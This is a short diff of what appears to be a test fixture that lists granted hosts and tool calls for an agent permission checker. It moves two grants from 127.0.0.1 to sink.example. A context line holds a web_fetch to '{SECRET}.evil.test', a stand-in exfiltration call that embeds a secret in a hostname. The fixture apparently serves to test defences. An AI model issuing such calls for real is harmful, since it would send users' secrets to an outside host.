@@ -44,8 +44,12 @@ GRANTS = [
             do("web_fetch", url=run.url("/", "{SECRET}.evil.test")),
         ],
     ),
-    _granted("a command to a host that may be read", "read", "127.0.0.1", lambda run: [curl(run)]),
-    _granted("an address of a host for commands", "reach", "127.0.0.1", lambda run: [fetch(run)]),
+    _granted(
+        "a command to a host that may be read", "read", "sink.example", lambda run: [curl(run)]
+    ),
+    _granted(
+        "an address of a host for commands", "reach", "sink.example", lambda run: [fetch(run)]
+    ),
     _granted(
         "a command that begins like it",
         "command",
